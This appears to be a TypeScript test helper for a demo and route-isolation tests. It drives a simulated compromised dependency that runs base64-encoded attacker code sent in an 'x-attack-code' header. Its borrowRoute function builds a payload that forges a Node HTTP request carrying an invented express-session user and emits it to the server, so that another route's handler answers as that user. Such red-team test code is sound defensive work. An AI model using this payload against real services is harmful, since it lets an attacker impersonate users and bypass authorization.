/**
 * @module
 * The demo's and the isolation tests' compromised dependency (`compromised-dependency.mjs`,
 * imported with `--import`): how to log in, and how to run attacker code inside a chosen route of
 * the running service, as an RCE in that route or a malicious package would.
 */
import { fileURLToPath } from 'node:url';

/** The module to preload with `node --import <it> server.ts`. */
export const COMPROMISED_DEPENDENCY = fileURLToPath(
  new URL('./compromised-dependency.mjs', import.meta.url),
);

export interface Answer {
  readonly ok: boolean;
  readonly value?: unknown;
  readonly code?: string | null;
  readonly message?: string;
}

/** Logs in through POST /login; the session cookie to send with later requests. */
export async function loginCookie(base: string, user: string, password: string): Promise<string> {
  const response = await fetch(new URL('/login', base), {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ user, password }),
  });
  if (response.status !== 200)
    throw new Error(`login as ${user}: ${response.status} ${await response.text()}`);
  return response.headers
    .getSetCookie()
    .map((line) => line.split(';', 1)[0])
    .join('; ');
}

/**
 * Runs attacker code (an async function body of `require`, `req`, `res`, `server`) in the route
 * of `path` (GET), in a request of the cookie's user, once the session middleware has loaded the
 * request's session.
 */
export async function runInRoute(
  base: string,
  path: string,
  cookie: string,
  code: string,
): Promise<Answer> {
  const body = `for (let i = 0; i < 100000 && req.session === undefined; i++)
      await new Promise((resolve) => setImmediate(resolve));
    ${code}`;
  const response = await fetch(new URL(path, base), {
    headers: { 'x-attack-code': Buffer.from(body).toString('base64'), cookie },
  });
  const text = await response.text();
  try {
    return JSON.parse(text) as Answer;
  } catch {
    return { ok: false, code: `HTTP ${response.status}`, message: text };
  }
}

/**
 * Attacker code that forges a request for `url` with a session of its own making (express-session
 * leaves a request that has one alone) and has that route's own handler answer it into a response
 * the attacker keeps: the red team's `server.emit('request', fake)`. Resolves to
 * `{ status, body }` of the borrowed route's answer.
 */
export function borrowRoute(url: string, user: string): string {
  return `
  const { IncomingMessage, ServerResponse } = require('node:http');
  const { Socket } = require('node:net');
  const fake = new IncomingMessage(new Socket());
  fake.method = 'GET';
  fake.url = ${JSON.stringify(url)};
  fake.headers = {};
  fake.session = { user: ${JSON.stringify(user)} };
  const fakeRes = new ServerResponse(fake);
  const chunks = [];
  return await new Promise((resolve) => {
    fakeRes.write = (chunk) => (chunks.push(Buffer.from(chunk)), true);
    fakeRes.end = (chunk) => {
      if (chunk !== undefined && typeof chunk !== 'function') chunks.push(Buffer.from(chunk));
      resolve({ status: fakeRes.statusCode, body: Buffer.concat(chunks).toString() });
      return fakeRes;
    };
    server.emit('request', fake, fakeRes);
  });`;
}
